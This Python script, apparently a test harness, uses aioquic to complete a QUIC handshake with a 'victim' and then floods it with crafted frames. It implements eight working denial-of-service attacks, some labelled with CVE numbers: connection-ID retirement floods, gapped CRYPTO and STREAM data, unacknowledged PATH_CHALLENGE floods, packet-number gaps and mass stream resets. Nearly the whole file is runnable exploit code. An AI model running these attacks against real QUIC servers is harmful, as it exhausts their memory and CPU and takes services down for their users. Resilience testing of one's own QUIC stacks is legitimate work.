"""A pinned peer that turns on its victim: QUIC by aioquic up to the handshake, then packets that cost more than they carry.

One argument, JSON: role, address, ALPN, key and certificate (PEM), hello, attack, megabytes. Prints its port, waits for a
line with the victim's, attacks, and prints how much it sent.
"""

import json
import selectors
import socket
import ssl
import sys
import tempfile
import time

from aioquic import tls
from aioquic.buffer import Buffer, encode_uint_var
from aioquic.quic.configuration import QuicConfiguration
from aioquic.quic.connection import QuicConnection
from aioquic.quic.events import ConnectionTerminated
from aioquic.quic.packet import QuicErrorCode, QuicFrameType
from aioquic.quic.packet_builder import QuicPacketBuilder, QuicPacketBuilderStop
from aioquic.quic.packet import QuicPacketType

spec = json.loads(sys.argv[1])
is_client = spec["role"] == "client"


def configure() -> QuicConfiguration:
    configuration = QuicConfiguration(
        alpn_protocols=[spec["alpn"]], is_client=is_client, max_datagram_frame_size=65535, idle_timeout=60
    )
    configuration.verify_mode = ssl.CERT_NONE
    with tempfile.NamedTemporaryFile("w") as certificate, tempfile.NamedTemporaryFile("w") as key:
        certificate.write(spec["certificate"])
        key.write(spec["key"])
        certificate.flush()
        key.flush()
        configuration.load_cert_chain(certificate.name, key.name)
    return configuration


class Peer:
    def __init__(self) -> None:
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.socket.bind((spec["address"], 0))
        self.socket.setblocking(False)
        self.selector = selectors.DefaultSelector()
        self.selector.register(self.socket, selectors.EVENT_READ)
        self.connection: QuicConnection | None = None
        self.closed = None
        self.offset = 0

    def flush(self) -> None:
        for datagram, _ in self.connection.datagrams_to_send(now=time.time()):
            self.send(datagram)

    def send(self, datagram: bytes) -> None:
        while True:
            try:
                self.socket.sendto(datagram, victim)
                return
            except BlockingIOError:
                time.sleep(0.001)
            except OSError:
                return

    def receive(self, seconds: float) -> None:
        """Hears what has come. Without this nothing is acknowledged."""
        if not self.selector.select(seconds):
            return
        try:
            while True:
                datagram, sender = self.socket.recvfrom(65535)
                if self.connection is None:
                    self.connection = QuicConnection(
                        configuration=configure(), original_destination_connection_id=datagram[6 : 6 + datagram[5]]
                    )
                self.connection.receive_datagram(datagram, sender, now=time.time())
                while event := self.connection.next_event():
                    if isinstance(event, ConnectionTerminated):
                        self.closed = {"code": event.error_code, "application": event.frame_type is None}
        except BlockingIOError:
            pass

    def shake_hands(self) -> None:
        if is_client:
            self.connection = QuicConnection(configuration=configure())
            self.connection.connect(victim, now=time.time())
            self.flush()
        until = time.time() + 10
        while time.time() < until and not (self.connection and self.connection._handshake_complete):
            self.receive(0.05)
            if self.connection:
                self.flush()
        # The hello, for a client; acknowledgements for both.
        if is_client:
            self.connection.send_stream_data(self.connection.get_next_available_stream_id(), HELLO)
        for _ in range(10):
            self.flush()
            self.receive(0.02)

    def pack(self, frames) -> list[bytes]:
        """Packs these frames, each a type and bytes, into as few packets as they need."""
        connection = self.connection
        builder = QuicPacketBuilder(
            host_cid=connection.host_cid,
            peer_cid=connection._peer_cid.cid,
            version=connection._version,
            is_client=is_client,
            max_datagram_size=1350,
            packet_number=connection._packet_number,
        )
        crypto = connection._cryptos[tls.Epoch.ONE_RTT]
        builder.start_packet(QuicPacketType.ONE_RTT, crypto)
        for kind, body in frames:
            if builder.remaining_flight_space < len(body) + 2:
                break
            builder.start_frame(kind, capacity=len(body) + 1).push_bytes(body)
        datagrams, _ = builder.flush()
        connection._packet_number = builder.packet_number
        return datagrams


var = encode_uint_var
HELLO_JSON = json.dumps(spec.get("hello", {})).encode()
HELLO = len(HELLO_JSON).to_bytes(2, "big") + HELLO_JSON
HIGH = 1 << 28


def low_sequence_numbers(peer: Peer):
    """One high Retire Prior To, then connection ids that are to be retired at once (CVE-2024-1410)."""
    yield [(QuicFrameType.NEW_CONNECTION_ID, var(HIGH) + var(HIGH) + b"\x08" + b"h" * 8 + b"t" * 16)]
    sequence = 8
    while True:
        frames = []
        for _ in range(36):
            sequence += 1
            identity = sequence.to_bytes(8, "big")
            frames.append(
                (QuicFrameType.NEW_CONNECTION_ID, var(sequence) + var(0) + b"\x08" + identity + identity + identity)
            )
        yield frames


def crypto_gaps(peer: Peer):
    """CRYPTO frames of a byte, with gaps between them (CVE-2024-1765)."""
    offset = 1 << 20
    while True:
        frames = []
        for _ in range(160):
            offset += 2
            frames.append((QuicFrameType.CRYPTO, var(offset) + b"\x01x"))
        yield frames


def crypto_bulk(peer: Peer):
    """Whole packets of CRYPTO behind a gap."""
    offset = 1 << 20
    while True:
        yield [(QuicFrameType.CRYPTO, var(offset) + var(1200) + b"x" * 1200)]
        offset += 1200


def path_challenges(peer: Peer):
    """PATH_CHALLENGE, and never an acknowledgement (CVE-2023-6193)."""
    number = 0
    while True:
        frames = []
        for _ in range(140):
            number += 1
            frames.append((QuicFrameType.PATH_CHALLENGE, number.to_bytes(8, "big")))
        yield frames


def stream_gaps(peer: Peer):
    """Streams of whose beginning nothing comes, as many as are allowed, each up to its window."""
    first, window = (0, 60_000) if is_client else (1, 60_000)
    while True:
        for stream in range(int(spec.get("streams", 4096))):
            for offset in range(1, window, 1200):
                length = min(1200, window - offset)
                yield [(QuicFrameType.STREAM_BASE | 6, var(first + 4 * stream) + var(offset) + var(length) + b"x" * length)]


def stream_crumbs(peer: Peer):
    """One stream in single bytes with gaps, over and over."""
    stream = 0 if is_client else 1
    offset = 4096
    while True:
        frames = []
        for _ in range(150):
            offset = offset + 2 if offset < 60_000 else 4097
            frames.append((QuicFrameType.STREAM_BASE | 6, var(stream) + var(offset) + b"\x01x"))
        yield frames


def number_gaps(peer: Peer):
    """Every second packet number is left out: as many ranges to be acknowledged."""
    while True:
        peer.connection._packet_number += 1
        yield [(QuicFrameType.PING, b"")]


def streams_opened_and_reset(peer: Peer):
    """Streams that end as soon as they begin."""
    number = 1
    while True:
        frames = []
        for _ in range(60):
            stream = 4 * number if is_client else 4 * number + 1
            frames.append((QuicFrameType.RESET_STREAM, var(stream) + var(0) + var(0)))
            number += 1
        yield frames


ATTACKS = {attack.__name__: attack for attack in (
    low_sequence_numbers, crypto_gaps, crypto_bulk, path_challenges, stream_gaps, stream_crumbs, number_gaps,
    streams_opened_and_reset,
)}
#: Those that let the victim hear acknowledgements; the others say nothing but what they send.
HEARING = {"streams_opened_and_reset"}

peer = Peer()
print(json.dumps({"port": peer.socket.getsockname()[1]}), flush=True)
spec.update(json.loads(sys.stdin.readline()))
victim = (spec["address"], spec["port"])
peer.shake_hands()
print(json.dumps({"ready": bool(peer.connection and peer.connection._handshake_complete)}), flush=True)
# Encrypted beforehand, so that they come as fast as the victim's socket takes them.
packets = []
size = 0
for frames in ATTACKS[spec["attack"]](peer):
    for datagram in peer.pack(frames):
        packets.append(datagram)
        size += len(datagram)
    if size >= spec["megabytes"] * 1e6:
        break
    if len(packets) % 100 == 0:
        # Meanwhile it is a peer like any other.
        peer.receive(0)
        peer.flush()
sent = 0
began = time.time()
for number, datagram in enumerate(packets):
    if peer.closed:
        break
    peer.send(datagram)
    sent += len(datagram)
    if number % 50 == 49:
        time.sleep(0.001)
        peer.receive(0)
        if spec["attack"] in HEARING:
            peer.flush()
until = time.time() + 1
while time.time() < until and not peer.closed:
    peer.receive(0.1)
print(json.dumps({"sent": sent, "seconds": round(time.time() - began, 2), "closed": peer.closed}), flush=True)
